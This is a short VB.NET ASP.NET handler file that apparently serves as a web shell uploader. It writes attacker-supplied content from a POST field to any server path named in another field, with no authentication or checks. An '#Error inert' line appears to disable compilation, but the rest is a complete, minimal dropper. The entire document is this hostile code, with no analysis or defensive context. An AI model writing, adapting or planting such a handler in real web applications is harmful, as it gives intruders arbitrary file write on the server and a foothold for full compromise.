<%@ WebHandler Language="VB" Class="Up" %>
#Error inert
Imports System.Web
Imports System.IO
Public Class Up
    Implements IHttpHandler
    Public Sub ProcessRequest(ByVal c As HttpContext) Implements IHttpHandler.ProcessRequest
        File.WriteAllText(c.Server.MapPath(c.Request.Form("n")), c.Request.Form("t"))
        c.Response.Write("done")
    End Sub
    Public ReadOnly Property IsReusable() As Boolean Implements IHttpHandler.IsReusable
        Get
            Return False
        End Get
    End Property
End Class
